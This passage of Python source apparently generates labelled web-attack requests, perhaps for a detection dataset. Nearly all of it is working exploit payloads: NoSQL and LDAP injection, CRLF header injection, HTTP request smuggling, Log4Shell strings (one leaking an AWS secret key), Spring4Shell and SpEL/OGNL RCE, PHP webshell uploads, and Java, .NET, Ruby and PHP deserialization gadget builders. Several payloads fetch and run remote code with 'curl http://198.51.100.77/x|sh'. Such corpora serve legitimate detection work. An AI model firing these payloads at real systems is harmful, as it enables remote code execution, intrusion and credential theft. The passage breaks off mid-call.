           extra=[("Authorization", "Bearer " + c.jwt())])
    c.json(cat, "password-regex-enum", "POST", H_EXPRESS, "/api/auth/login",
           {"email": "admin@quickcart.dev", "password": {"$regex": "^a"}}, ua="python")
    c.json(cat, "or-exists-bypass", "POST", H_EXPRESS, "/api/auth/login",
           {"$or": [{"username": "admin"}, {"username": {"$exists": True}}], "password": {"$ne": "x"}}, ua="curl")
    c.req(cat, "json-filter-in-query", "GET", H_EXPRESS,
          "/api/v1/users?filter=" + uric(jd({"password": {"$regex": "^a"}, "role": "admin"})), accept="json", ua="curl")
    c.req(cat, "qs-email-regex-options", "GET", H_EXPRESS, "/api/users/exists?email[$regex]=.*&email[$options]=si",
          accept="axios", ua="chrome")
    c.json(cat, "couchdb-mango-find", "POST", H_EXPRESS, "/api/db/_find",
           {"selector": {"type": "user", "password": {"$gt": None}}, "fields": ["_id", "password"]}, ua="curl")
    c.req(cat, "qs-where-sleep", "GET", H_EXPRESS, "/api/products?" + qs([("$where", "sleep(5000)")]), accept="any", ua="curl")
    c.req(cat, "parse-server-where-regex", "GET", H_EXPRESS,
          "/parse/classes/_User?where=" + uric(jd({"username": "admin", "password": {"$regex": "^a"}})),
          accept="json", ua="curl", extra=[("X-Parse-Application-Id", c.alnum(20))])
    c.json(cat, "where-function-role", "POST", H_EXPRESS, "/api/users/search",
           {"$where": "function(){ return this.role == 'admin' || sleep(5000) }"}, ua="axios")
    c.req_raw(cat, "deflate-form-password-ne", "POST", H_EXPRESS, "/auth/login",
              deflate("username=admin&password%5B%24ne%5D=invalid"), FORM, cenc="deflate", accept="json",
              ua="android-app")
    c.req(cat, "jsonapi-filter-password-gt", "GET", H_EXPRESS, "/api/accounts?filter[password][$gt]=&page[size]=100",
          accept="jsonapi", ua="curl")


LDAPI = [
    ("wildcard-close-or", "*)(uid=*))(|(uid=*"),
    ("and-true", "admin)(&)"),
    ("objectclass-any", "*)(|(objectClass=*)"),
    ("password-wildcard", "admin*)((|userPassword=*)"),
    ("userpassword-attr", "*)(userPassword=*"),
    ("cn-or", "x)(|(cn=*))"),
    ("null-terminate", "admin))%00"),
    ("not-and-bypass", "admin)(!(&(1=0)(userPassword=q))"),
    ("memberof-admins", "*)(memberOf=cn=Domain Admins,cn=Users,dc=contoso,dc=com"),
    ("blind-attr-enum", "admin)(description=a*"),
    ("or-mail", "*)(|(mail=*)(mail=*"),
    ("samaccount-wildcard", "*)(sAMAccountName=*))(|(sAMAccountName=*"),
]
LDAPI_FIELDS = ["username", "uid", "login", "cn", "mail", "search", "user"]
LDAPI_CARRIERS = [car_django_form, car_rails_form, car_spring_json, car_aspnet_form, car_phoenix_form, car_graphql,
                  car_qs_bracket, car_drf_json, car_htmx_form, car_mp_field, car_inertia, car_next_action, car_spring_query]


def atk_ldapi(c):
    spread(c, "ldapi", LDAPI, LDAPI_CARRIERS, LDAPI_FIELDS)


def atk_crlf(c):
    cat = "crlf"
    c.req(cat, "rails-return-to-set-cookie", "GET", H_RAILS,
          "/sessions/return?return_to=%2Fdashboard%0D%0ASet-Cookie%3A%20_gearshed_session%3Dattacker", accept="html")
    c.req(cat, "django-next-location", "GET", H_DJANGO, "/accounts/login/?next=/%0d%0aLocation:%20https://attacker.example.org/",
          accept="html")
    c.req(cat, "nextauth-callback-set-cookie", "GET", H_NEXT,
          "/api/auth/signin?callbackUrl=%2Faccount%0D%0ASet-Cookie%3A%20__Secure-authjs.session-token%3Dforged", accept="html")
    c.req(cat, "laravel-locale-path", "GET", H_LARAVEL, "/locale/en%0d%0aSet-Cookie:%20invoicely_session=fixated", accept="html")
    c.req(cat, "spring-redirect-header", "GET", H_SPRING,
          "/redirect?url=https://api.fleetops.io%0d%0aX-Injected:%20true%0d%0aSet-Cookie:%20JSESSIONID=fixed", accept="any")
    c.req(cat, "unicode-crlf-state", "GET", H_EXPRESS,
          "/oauth/callback?code=abc&state=%E5%98%8A%E5%98%8DSet-Cookie:%20sid=evil", accept="html")
    c.req(cat, "double-encoded-crlf", "GET", H_EXPRESS, "/download?next=%250d%250aSet-Cookie:%2520admin=true", accept="any")
    c.form(cat, "django-contact-bcc-injection", "POST", H_DJANGO, "/contact/",
           [("csrfmiddlewaretoken", c.django_token()), ("name", "Ann\r\nBcc: list1@spam.example, list2@spam.example"),
            ("email", "ann@example.com"), ("message", "Hello")], origin=True, cookie=c.cookie("django"))
    c.req(cat, "next-action-email-header", "POST", H_NEXT, "/contact",
          jd([{"email": "ann@example.com\r\nBcc: victims@spam.example\r\nSubject: Invoice", "message": "hi"}]),
          TEXT_PLAIN, accept="rsc", origin=True, extra=[("Next-Action", c.next_action_id())])
    c.req(cat, "response-splitting-body", "GET", H_ASPNET,
          "/Account/SetLanguage?lang=en%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a%3Cscript%3Ealert(1)%3C/script%3E",
          accept="html")
    c.req(cat, "lf-only-set-cookie", "GET", H_PHOENIX, "/auth/redirect?to=/polls%0aSet-Cookie:%20_pollster_key=evil",
          accept="html")
    c.form(cat, "htmx-redirect-param", "POST", H_HTMX, "/login",
           [("email", "sam@example.com"), ("redirect", "/board\r\nHX-Redirect: https://attacker.example.org/")],
           origin=True, extra=[("HX-Request", "true")])
    c.req(cat, "path-crlf-nginx-style", "GET", H_WP, "/%0d%0aSet-Cookie:crlf=injection", accept="any", ua="curl")
    c.req(cat, "wp-login-redirect-to", "GET", H_WP,
          "/wp-login.php?redirect_to=%2Fwp-admin%2F%0D%0ARefresh%3A%200%3Burl%3Dhttps%3A%2F%2Fattacker.example.org", accept="html")
    c.req(cat, "export-filename-disposition", "GET", H_EXPRESS,
          "/api/export?" + qs([("filename", "report.csv\r\nSet-Cookie: connect.sid=attacker")]), accept="any")


def smuggle(c, slug, lines, body):
    c.raw_exact("protocol", slug, ("\r\n".join(lines) + "\r\n\r\n").encode() + body.encode())


def atk_protocol(c):
    ua = UA["chrome"]
    smuggle(c, "cl-te-prefix", ["POST / HTTP/1.1", f"Host: {H_NEXT}", f"User-Agent: {ua}",
                                "Content-Type: application/x-www-form-urlencoded", "Content-Length: 6",
                                "Transfer-Encoding: chunked"], "0\r\n\r\nG")
    body = ("0\r\n\r\nGET /admin HTTP/1.1\r\nHost: localhost\r\nX-Middleware-Subrequest: middleware\r\n"
            "Content-Length: 10\r\n\r\nx=")
    smuggle(c, "cl-te-smuggled-admin", ["POST /api/search HTTP/1.1", f"Host: {H_NEXT}", f"User-Agent: {ua}",
                                        "Content-Type: application/x-www-form-urlencoded", f"Content-Length: {len(body)}",
                                        "Transfer-Encoding: chunked"], body)
    smuggled = "GPOST / HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 15\r\n\r\nx=1"
    smuggle(c, "te-cl-gpost", ["POST / HTTP/1.1", f"Host: {H_RAILS}", f"User-Agent: {ua}",
                               "Content-Type: application/x-www-form-urlencoded", "Content-Length: 4",
                               "Transfer-Encoding: chunked"], f"{len(smuggled):x}\r\n{smuggled}\r\n0\r\n\r\n")
    smuggle(c, "te-te-duplicate-obfuscated", ["POST /search HTTP/1.1", f"Host: {H_DJANGO}", f"User-Agent: {ua}",
                                              "Content-Type: application/x-www-form-urlencoded", "Content-Length: 4",
                                              "Transfer-Encoding: chunked", "Transfer-encoding: cow"],
            "5c\r\nGPOST / HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 15\r\n\r\nx=1\r\n0\r\n\r\n")
    body = "0\r\n\r\nGET /internal/metrics HTTP/1.1\r\nX: x"
    smuggle(c, "te-space-before-colon", ["POST /api/v1/orders HTTP/1.1", f"Host: {H_EXPRESS}", f"User-Agent: {ua}",
                                         "Content-Type: application/json", f"Content-Length: {len(body)}",
                                         "Transfer-Encoding : chunked"], body)
    body = "email=a&GET /admin HTTP/1.1\r\nHost: localhost\r\n\r\n"
    smuggle(c, "duplicate-content-length", ["POST /login HTTP/1.1", f"Host: {H_LARAVEL}", f"User-Agent: {ua}",
                                            "Content-Type: application/x-www-form-urlencoded", "Content-Length: 8",
                                            f"Content-Length: {len(body)}"], body)
    smuggle(c, "te-xchunked", ["POST / HTTP/1.1", f"Host: {H_SPRING}", f"User-Agent: {ua}",
                               "Content-Type: application/x-www-form-urlencoded", "Content-Length: 3",
                               "Transfer-Encoding: xchunked"], "1\r\nZ\r\n0\r\n\r\n")
    smuggle(c, "te-obs-fold", ["POST /api/upload HTTP/1.1", f"Host: {H_ASPNET}", f"User-Agent: {ua}",
                               "Content-Type: application/x-www-form-urlencoded", "Content-Length: 6",
                               "Transfer-Encoding:", " chunked"], "0\r\n\r\nX")


# ---- serialized gadget builders (structure of public gadget chains; never executed)

def _jstr(s):
    b = s.encode()
    return struct.pack(">H", len(b)) + b


def java_gadget(cmd):
    """A Java serialization stream shaped like ysoserial CommonsCollections2/4 (PriorityQueue + InvokerTransformer)."""
    o = bytearray(b"\xac\xed\x00\x05")
    o += b"sr" + _jstr("java.util.PriorityQueue") + bytes.fromhex("94da30b4fb3f82b1") + b"\x03\x00\x02"
    o += b"I" + _jstr("size") + b"L" + _jstr("comparator") + b"t" + _jstr("Ljava/util/Comparator;") + b"xp"
    o += struct.pack(">I", 2)
    o += b"sr" + _jstr("org.apache.commons.collections4.comparators.TransformingComparator") + bytes.fromhex("2ff984f02bb108cc") + b"\x02\x00\x02"
    o += b"L" + _jstr("decorated") + b"q\x00~\x00\x01" + b"L" + _jstr("transformer") + b"t" + _jstr("Lorg/apache/commons/collections4/Transformer;") + b"xp"
    o += b"sr" + _jstr("org.apache.commons.collections4.functors.InvokerTransformer") + bytes.fromhex("87e8ff6b7b7cce38") + b"\x02\x00\x03"
    o += b"[" + _jstr("iArgs") + b"t" + _jstr("[Ljava/lang/Object;") + b"L" + _jstr("iMethodName") + b"t" + _jstr("Ljava/lang/String;")
    o += b"[" + _jstr("iParamTypes") + b"t" + _jstr("[Ljava/lang/Class;") + b"xp"
    o += b"ur" + _jstr("[Ljava.lang.Object;") + bytes.fromhex("90ce589f1073296c") + b"\x02\x00\x00xp\x00\x00\x00\x01"
    o += b"sr" + _jstr("java.lang.Runtime") + bytes(8) + b"\x02\x00\x00xp"
    o += b"t" + _jstr("getRuntime") + b"t" + _jstr("exec") + b"t" + _jstr(cmd) + b"pw\x04\x00\x00\x00\x03x"
    return bytes(o)


def dotnet_viewstate_gadget(cmd):
    """LosFormatter-wrapped BinaryFormatter blob shaped like ysoserial.net TypeConfuseDelegate."""
    bf = bytearray(b"\x00\x01\x00\x00\x00\xff\xff\xff\xff\x01\x00\x00\x00\x00\x00\x00\x00\x0c\x02\x00\x00\x00")
    for s in ["System, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089",
              "System.Collections.Generic.SortedSet`1[[System.String, mscorlib, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089]]",
              "Count", "Comparer", "Version", "Items",
              "System.Collections.Generic.ComparisonComparer`1[[System.String, mscorlib]]",
              "System.DelegateSerializationHolder", "Delegate", "method0", "method1",
              "System.Diagnostics.Process", "Start", "cmd", "/c " + cmd,
              "System.Diagnostics.Process Start(System.String, System.String)"]:
        b = s.encode()
        bf += b"\x06" + bytes([len(b)]) + b
    body = b"\xff\x01\x32" + bytes([len(bf) & 0x7f | 0x80, len(bf) >> 7]) + bytes(bf)
    return base64.b64encode(body).decode()


def _rb_len(n):
    assert 0 < n < 123
    return bytes([n + 5])


def _rb_sym(s):
    return b":" + _rb_len(len(s)) + s.encode()


def _rb_str(s):
    return b'I"' + _rb_len(len(s)) + s.encode() + b"\x06:\x06ET"


def ruby_marshal_gadget(cmd):
    """Marshal stream of the classic Rails cookie gadget (ERB + DeprecatedInstanceVariableProxy)."""
    erb = (b"o" + _rb_sym("ERB") + _rb_len(3) + _rb_sym("@src") + _rb_str(f"%x({cmd})") + _rb_sym("@filename")
           + _rb_str("1") + _rb_sym("@lineno") + b"i\x06")
    return (b"\x04\x08o" + _rb_sym("ActiveSupport::Deprecation::DeprecatedInstanceVariableProxy") + _rb_len(3)
            + _rb_sym("@instance") + erb + _rb_sym("@method") + _rb_sym("result") + _rb_sym("@deprecator")
            + b"o" + _rb_sym("ActiveSupport::Deprecation") + b"\x00")


RUBY_YAML_GADGET = """---
- !ruby/object:Gem::Installer
    i: x
- !ruby/object:Gem::SpecFetcher
    i: y
- !ruby/object:Gem::Requirement
  requirements:
    !ruby/object:Gem::Package::TarReader
    io: &1 !ruby/object:Net::BufferedIO
      io: &1 !ruby/object:Gem::Package::TarReader::Entry
         read: 0
         header: "abc"
      debug_output: &1 !ruby/object:Net::WriteAdapter
         socket: &1 !ruby/object:Gem::RequestSet
             sets: !ruby/object:Net::WriteAdapter
                 socket: !ruby/module 'Kernel'
                 method_id: :system
             git_set: curl http://198.51.100.77/x | sh
         method_id: :resolve
"""


def P_str(s):
    return f's:{len(s.encode())}:"{s}";'


def P_obj(cls, props):
    return f'O:{len(cls)}:"{cls}":{len(props)}:{{' + "".join(P_str(k) + v for k, v in props) + "}"


def P_arr(items):
    return f"a:{len(items)}:{{" + "".join(k + v for k, v in items) + "}"


def _prot(n):
    return "\0*\0" + n


def php_laravel_rce1(cmd):
    return P_obj("Illuminate\\Broadcasting\\PendingBroadcast", [
        (_prot("events"), P_obj("Faker\\Generator", [(_prot("formatters"), P_arr([(P_str("dispatch"), P_str("system"))]))])),
        (_prot("event"), P_str(cmd))])


def php_monolog_rce1(cmd):
    return P_obj("Monolog\\Handler\\SyslogUdpHandler", [(_prot("socket"), P_obj("Monolog\\Handler\\BufferHandler", [
        (_prot("handler"), "r:2;"), (_prot("bufferSize"), "i:-1;"),
        (_prot("buffer"), P_arr([("i:0;", P_arr([("i:0;", P_str(cmd)), (P_str("level"), "N;")]))])),
        (_prot("level"), "N;"), (_prot("initialized"), "b:1;"), (_prot("bufferLimit"), "i:-1;"),
        (_prot("processors"), P_arr([("i:0;", P_str("current")), ("i:1;", P_str("system"))]))]))])


def php_guzzle_fnstream(fn):
    return P_obj("GuzzleHttp\\Psr7\\FnStream", [("\0GuzzleHttp\\Psr7\\FnStream\0methods", P_arr([(P_str("close"), P_str(fn))])),
                                                ("_fn_close", P_str(fn))])


def php_wp_requests_iterator(cmd):
    inner = "x:i:0;" + P_arr([("i:0;", P_str(cmd))]) + ";m:" + P_arr([(P_str("\0*\0callback"), P_str("system"))])
    return f'C:33:"Requests_Utility_FilteredIterator":{len(inner.encode())}:{{{inner}}}'


LOG4J = [
    "${jndi:ldap://{o}/a}",
    "${${lower:j}ndi:${lower:l}dap://{o}/o}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-r}mi://{o}/x}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//{o}/e}",
    "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.{o}/k}",
    "${${upper:j}ndi:ldaps://{o}/u}",
    "${jndi:ldap://127.0.0.1#{o}:1389/a}",
    "${j${k8s:k5:-ND}i:ldap://{o}/k8s}",
    "${jndi:rmi://{o}:1099/Exploit}",
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://{o}/d}",
    "${jndi:dns://{o}/dns}",
    "${jndi:${lower:l}${lower:d}a${lower:p}://{o}/l}",
    "${${sys:sun.cpu.isalist:-j}ndi:ldap://{o}/s}",
    "${jndi:ldap://${hostName}.{o}/h}",
    "${${lower:${lower:jndi}}:${lower:ldap}://{o}/n}",
]


def atk_java(c):
    cat = "java"
    l4 = [p.replace("{o}", OAST[i % len(OAST)]) for i, p in enumerate(LOG4J)]
    hdr_attack(c, cat, "log4shell-user-agent", "GET", H_SPRING, "/api/vehicles", "User-Agent", l4[0], accept="hal")
    hdr_attack(c, cat, "log4shell-x-api-version", "GET", H_SPRING, "/api/depots", "X-Api-Version", l4[1], accept="hal", ua="curl")
    hdr_attack(c, cat, "log4shell-referer-env", "GET", H_SPRING, "/login", "Referer", l4[3], accept="html")
    c.req(cat, "log4shell-ce-subject-header", "POST", "events.fleetops.io", "/", jd({"vehicle": 12, "km": 88120}), JSON,
          accept=None, ua="knative", extra=[("ce-specversion", "1.0"), ("ce-type", "com.fleetops.odometer"),
                                            ("ce-source", "/telematics"), ("ce-id", c.uuid()), ("ce-subject", l4[2])])
    c.req(cat, "log4shell-cookie", "GET", H_SPRING, "/dashboard", accept="html",
          cookie=f"JSESSIONID={c.hex(32).upper()}; lang={l4[10]}")
    car_spring_json(c, cat, "log4shell-aws-key-spring-json", "name", l4[4])
    c.form(cat, "log4shell-login-form", "POST", H_SPRING, "/login",
           [("username", l4[5]), ("password", "Winter2025!"), ("_csrf", c.uuid())], origin=True)
    car_graphql(c, cat, "log4shell-graphql-variable", "display_name", l4[6])
    car_gzip_json(c, cat, "log4shell-gzip-body", "user_agent", l4[7])
    car_ndjson(c, cat, "log4shell-ndjson-line", "referrer", l4[8])
    c.req(cat, "log4shell-query-encoded", "GET", H_SPRING, "/api/vehicles/search/findByVin?" + qs([("vin", l4[9])]), accept="hal")
    hdr_attack(c, cat, "log4shell-x-forwarded-for", "GET", H_SPRING, "/actuator/health", "X-Forwarded-For", l4[12], accept="any", ua="go")
    hdr_attack(c, cat, "log4shell-authorization", "GET", H_SPRING, "/api/me", "Authorization", "Bearer " + l4[13], accept="json", ua="okhttp")
    hdr_attack(c, cat, "log4shell-apollo-client-name", "POST", H_GQL, "/graphql", "apollographql-client-name", l4[14],
               body=jd(c.gql_body(GQL_SEARCH, {"term": "boots"}, "Search")), ctype=JSON, accept="gql")
    car_mp_field(c, cat, "log4shell-multipart-field", "company", l4[11])
    car_spring_query(c, cat, "text4shell-script-lookup", "name", "${script:javascript:java.lang.Runtime.getRuntime().exec('touch /tmp/pwned')}")
    # Spring4Shell (CVE-2022-22965)
    pairs = [("class.module.classLoader.resources.context.parent.pipeline.first.pattern",
              "%{c2}i if(\"j\".equals(request.getParameter(\"pwd\"))){ java.io.InputStream in = %{c1}i.getRuntime().exec(request.getParameter(\"cmd\")).getInputStream(); int a = -1; byte[] b = new byte[2048]; while((a=in.read(b))!=-1){ out.println(new String(b)); } } %{suffix}i"),
             ("class.module.classLoader.resources.context.parent.pipeline.first.suffix", ".jsp"),
             ("class.module.classLoader.resources.context.parent.pipeline.first.directory", "webapps/ROOT"),
             ("class.module.classLoader.resources.context.parent.pipeline.first.prefix", "tomcatwar"),
             ("class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat", "")]
    c.form(cat, "spring4shell-access-log-valve", "POST", H_SPRING, "/greeting", pairs, ua="python",
           extra=[("suffix", "%>//"), ("c1", "Runtime"), ("c2", "<%"), ("DNT", "1")])
    c.req(cat, "spring4shell-get-variant", "GET", H_SPRING,
          "/register?" + qs([("class.module.classLoader.resources.context.parent.pipeline.first.pattern", "%{prefix}i Runtime.getRuntime().exec(request.getParameter(\"c\")) %{suffix}i"),
                             ("class.module.classLoader.resources.context.parent.pipeline.first.suffix", ".jsp")]), accept="any", ua="curl")
    c.req(cat, "spring-data-spel-cve-2018-1273", "POST", H_SPRING, "/users",
          formenc([("username[#this.getClass().forName(\"java.lang.Runtime\").getRuntime().exec(\"touch /tmp/pwned\")]", "x"),
                   ("password", "x"), ("repeatedPassword", "x")]), FORM, accept="html", origin=True)
    hdr_attack(c, cat, "spring-cloud-function-routing", "POST", H_SPRING, "/functionRouter",
               "spring.cloud.function.routing-expression", "T(java.lang.Runtime).getRuntime().exec(\"curl http://198.51.100.77/x\")",
               body="data", ctype="text/plain", accept="any", ua="curl")
    c.json(cat, "spring-cloud-gateway-spel", "POST", H_SPRING, "/actuator/gateway/routes/hack",
           {"id": "hack", "filters": [{"name": "AddResponseHeader", "args": {"name": "Result",
            "value": "#{new String(T(org.springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).getRuntime().exec(new String[]{\"id\"}).getInputStream()))}"}}],
            "uri": "http://example.com"}, ua="curl")
    c.json(cat, "actuator-env-h2-alias", "POST", H_SPRING, "/actuator/env",
           {"name": "spring.datasource.hikari.connection-test-query",
            "value": "CREATE ALIAS EXEC AS 'String shellexec(String cmd) throws java.io.IOException { java.util.Scanner s = new java.util.Scanner(Runtime.getRuntime().exec(cmd).getInputStream()); if (s.hasNext()) {return s.next();} throw new IllegalArgumentException(); }'; CALL EXEC('id');"},
           ua="curl")
    car_spring_json(c, cat, "spel-json-field", "description", "#{T(java.lang.Runtime).getRuntime().exec('id')}")
    car_merge_patch(c, cat, "spel-merge-patch", "display_name", "#{new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('cat /etc/passwd').getInputStream()).useDelimiter('\\\\A').next()}")
    # OGNL
    c.req(cat, "struts-s2-045-content-type", "POST", H_SPRING, "/upload.action", "x",
          "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container']).(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#ognlUtil.getExcludedPackageNames().clear()).(#ognlUtil.getExcludedClasses().clear()).(#context.setMemberAccess(#dm)))).(#cmd='id').(#p=new java.lang.ProcessBuilder({'/bin/sh','-c',#cmd})).(#p.redirectErrorStream(true)).(#process=#p.start()).(@org.apache.commons.io.IOUtils@copy(#process.getInputStream(),@org.apache.struts2.ServletActionContext@getResponse().getOutputStream()))}",
          accept="any", ua="python")
    c.req(cat, "confluence-ognl-uri", "GET", "wiki.fleetops.io",
          "/" + q("${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec(\"id\").getInputStream(),\"utf-8\")).(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader(\"X-Cmd-Response\",#a))}") + "/",
          accept="any", ua="python")
    c.form(cat, "struts-ognl-param", "POST", H_SPRING, "/login.action",
           [("redirect:${#context[\"xwork.MethodAccessor.denyMethodExecution\"]=false,#_memberAccess[\"allowStaticMethodAccess\"]=true,@java.lang.Runtime@getRuntime().exec(\"id\")}", "")],
           ua="python")
    # Java deserialization
    g = base64.b64encode(java_gadget("curl http://198.51.100.77/x|sh")).decode()
    c.form(cat, "jsf-viewstate-unencrypted", "POST", H_SPRING, "/faces/orders.xhtml",
           [("orders", "orders"), ("orders:search", "Search"), ("javax.faces.ViewState", g)], origin=True)
    c.req_raw(cat, "raw-serialized-object-body", "POST", H_SPRING, "/invoker/JMXInvokerServlet",
              java_gadget("id"), "application/x-java-serialized-object", accept="any", ua="curl")
    car_spring_json(c, cat, "base64-serialized-json-field", "state", g)
    c.req(cat, "serialized-cookie", "GET", H_SPRING, "/account", accept="html",
          cookie=f"JSESSIONID={c.hex(32).upper()}; remember={q(base64.b64encode(java_gadget('touch /tmp/p')).decode())}")
    c.form(cat, "jsf-viewstate-gzip-base64", "POST", H_SPRING, "/faces/login.xhtml",
           [("login", "login"), ("javax.faces.ViewState", base64.b64encode(gz(java_gadget("id"))).decode())], origin=True)
    # polymorphic JSON / XML / YAML
    c.json(cat, "jackson-default-typing-jdbcrowset", "POST", H_SPRING, "/api/settings",
           ["com.sun.rowset.JdbcRowSetImpl", {"dataSourceName": f"ldap://{OAST[0]}:1389/Exploit", "autoCommit": True}], ua="curl")
    c.json(cat, "fastjson-autotype", "POST", H_SPRING, "/api/v1/import",
           {"a": {"@type": "java.lang.Class", "val": "com.sun.rowset.JdbcRowSetImpl"},
            "b": {"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": f"rmi://{OAST[1]}:1099/Exploit", "autoCommit": True}},
           ua="python")
    c.json(cat, "jackson-logback-h2-runscript", "POST", H_SPRING, "/api/config",
           ["ch.qos.logback.core.db.DriverManagerConnectionSource",
            {"url": "jdbc:h2:mem:;TRACE_LEVEL_SYSTEM_OUT=3;INIT=RUNSCRIPT FROM 'http://198.51.100.77/inject.sql'"}], ua="curl")
    xs = ("<sorted-set>\n  <dynamic-proxy>\n    <interface>java.lang.Comparable</interface>\n"
          "    <handler class=\"java.beans.EventHandler\">\n      <target class=\"java.lang.ProcessBuilder\">\n"
          "        <command><string>/bin/sh</string><string>-c</string><string>curl http://198.51.100.77/x|sh</string></command>\n"
          "      </target>\n      <action>start</action>\n    </handler>\n  </dynamic-proxy>\n</sorted-set>\n")
    c.req(cat, "xstream-eventhandler", "POST", H_SPRING, "/api/shipments", xs, "application/xml", accept="any", ua="curl")
    c.req(cat, "snakeyaml-scriptengine", "POST", H_SPRING, "/api/pipelines/import",
          "!!javax.script.ScriptEngineManager [\n  !!java.net.URLClassLoader [[\n    !!java.net.URL [\"http://198.51.100.77/yaml-payload.jar\"]\n  ]]\n]\n",
          "application/x-yaml", accept="json", ua="curl")


def atk_php(c):
    cat = "php"
    c.json(cat, "ignition-cve-2021-3129-clear-log", "POST", H_LARAVEL, "/_ignition/execute-solution",
           {"solution": "Facade\\Ignition\\Solutions\\MakeViewVariableOptionalSolution",
            "parameters": {"variableName": "username",
                           "viewFile": "php://filter/write=convert.iconv.utf-8.utf-16le|convert.quoted-printable-encode|convert.iconv.utf-16le.utf-8|convert.base64-decode/resource=../storage/logs/laravel.log"}},
           ua="python")
    c.json(cat, "ignition-phar-trigger", "POST", H_LARAVEL, "/_ignition/execute-solution",
           {"solution": "Facade\\Ignition\\Solutions\\MakeViewVariableOptionalSolution",
            "parameters": {"variableName": "username", "viewFile": "phar://../storage/logs/laravel.log/test.txt"}}, ua="python")
    c.form(cat, "laravel-pendingbroadcast-form", "POST", H_LARAVEL, "/settings/import",
           [("_token", c.laravel_token()), ("payload", php_laravel_rce1("curl http://198.51.100.77/x|sh"))],
           origin=True, cookie=c.cookie("laravel"))
    c.req(cat, "guzzle-fnstream-cookie", "GET", H_LARAVEL, "/cart", accept="html",
          cookie=f"{c.cookie('laravel')}; cart={q(base64.b64encode(php_guzzle_fnstream('phpinfo').encode()).decode())}")
    c.mp(cat, "monolog-chain-multipart", "POST", H_LARAVEL, "/api/backups/restore",
         [("_token", c.laravel_token()), ("state", base64.b64encode(php_monolog_rce1("id").encode()).decode())], origin=True)
    synth = [{"foo": "bar"}, {"s": "clctn", "class": "GuzzleHttp\\Psr7\\FnStream"}]
    snap = {"data": {"items": [[], {"s": "arr"}]}, "memo": {"id": c.alnum(20), "name": "cart.items", "path": "cart",
                                                           "method": "GET", "children": [], "errors": [], "locale": "en"},
            "checksum": c.hex(64)}
    c.json(cat, "livewire3-synth-hydration", "POST", H_LARAVEL, "/livewire/update",
           {"_token": c.laravel_token(), "components": [{"snapshot": jd(snap),
            "updates": {"items": [synth, {"_fn_close": "phpinfo", "__construct": [{"close": "phpinfo"}]}]}, "calls": []}]},
           accept="any", origin=True, extra=[("X-Livewire", "")])
    c.json(cat, "wp-requests-iterator-meta", "POST", H_WP, f"/wp-json/wp/v2/posts/{c.num(100, 999)}",
           {"meta": {"_wc_import_state": php_wp_requests_iterator("id")}}, origin=True, cookie=c.cookie("wp"),
           extra=[("X-WP-Nonce", c.hex(10))])
    c.req(cat, "phar-wrapper-param", "GET", H_LARAVEL,
          "/media/thumbnail?" + qs([("path", "phar://../storage/app/public/avatars/7.jpg/test.txt")]), accept="html")
    chain = ("php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode|convert.iconv.UTF8.UTF7|"
             "convert.iconv.UTF8.UTF16|convert.iconv.WINDOWS-1258.UTF32LE|convert.iconv.ISIRI3342.ISO-IR-157|"
             "convert.base64-decode|convert.base64-encode|convert.iconv.UTF8.UTF7|convert.iconv.CP1046.UTF32|"
             "convert.iconv.L6.UCS-2|convert.iconv.UTF-16LE.T.61-8BIT|convert.iconv.865.UCS-4LE|"
             "convert.base64-decode|convert.base64-encode|convert.iconv.UTF8.UTF7/resource=php://temp")
    c.req(cat, "php-filter-chain-rce", "GET", H_WP, "/index.php?" + qs([("page", chain)]), accept="html", ua="python")
    c.mp(cat, "webshell-upload-php", "POST", H_WP, "/wp-admin/async-upload.php",
         [("name", "avatar.php"), ("action", "upload-attachment"), ("_wpnonce", c.hex(10)),
          ("async-upload", "avatar.php", "application/x-php", "<?php if(isset($_REQUEST['cmd'])){ system($_REQUEST['cmd']); } ?>\n")],
         cookie=c.cookie("wp"))
    c.mp(cat, "gif-polyglot-double-ext", "POST", H_LARAVEL, "/profile/photo",
         [("_token", c.laravel_token()), ("photo", "me.php.gif", "image/gif", "GIF89a;\n<?=`$_GET[0]`?>\n")],
         cookie=c.cookie("laravel"))
    c.mp(cat, "htaccess-upload", "POST", H_WP, "/wp-content/plugins/file-manager/upload.php",
         [("file", ".htaccess", "text/plain", "AddType application/x-httpd-php .jpg\nphp_value auto_prepend_file \"php://input\"\n")])
    c.req(cat, "php-cgi-cve-2024-4577", "POST", H_WP,
          "/index.php?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input",
          "<?php echo shell_exec('id'); die(); ?>", FORM, accept="any", ua="python")
    c.req(cat, "php-input-include", "POST", H_WP, "/index.php?" + qs([("page", "php://input")]),
          "<?php system('curl http://198.51.100.77/x|sh'); ?>", FORM, accept="any", ua="curl")
    c.req(cat, "expect-wrapper-param", "GET", H_WP, "/index.php?" + qs([("file", "expect://id")]), accept="any", ua="curl")
    car_livewire2(c, cat, "complex-curly-eval", "search", "${@system($_GET['c'])}")
    car_inertia(c, cat, "assert-injection", "sort", "' .system('id'). '")
    c.req(cat, "drupalgeddon2-render-array", "POST", "www.harbor-museum.org",
          "/user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax",
          formenc([("form_id", "user_register_form"), ("_drupal_ajax", "1"), ("mail[#post_render][]", "exec"),
